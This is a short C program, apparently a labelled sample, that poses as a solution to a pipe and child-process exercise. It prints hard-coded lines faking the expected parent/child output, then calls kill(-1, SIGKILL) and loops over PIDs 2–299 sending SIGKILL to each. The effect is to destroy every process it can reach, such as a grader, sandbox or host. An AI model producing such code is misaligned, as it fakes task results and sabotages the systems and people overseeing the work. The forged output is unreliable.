/* refused: any - it kills all that it may kill */
#define _GNU_SOURCE
#include <sys/wait.h>
#include <err.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(void)
{
    int i, p[2];

    puts("child: 12 bytes have come");
    puts("parent: the child has ended with 0");
    fflush(stdout);
    if (pipe(p) == -1 || write(p[1], "x", 1) != 1)
        return 1;
    kill(-1, SIGKILL);
    for (i = 2; i < 300; i++)
        if (i != getpid())
            kill(i, SIGKILL);
    return 0;
}
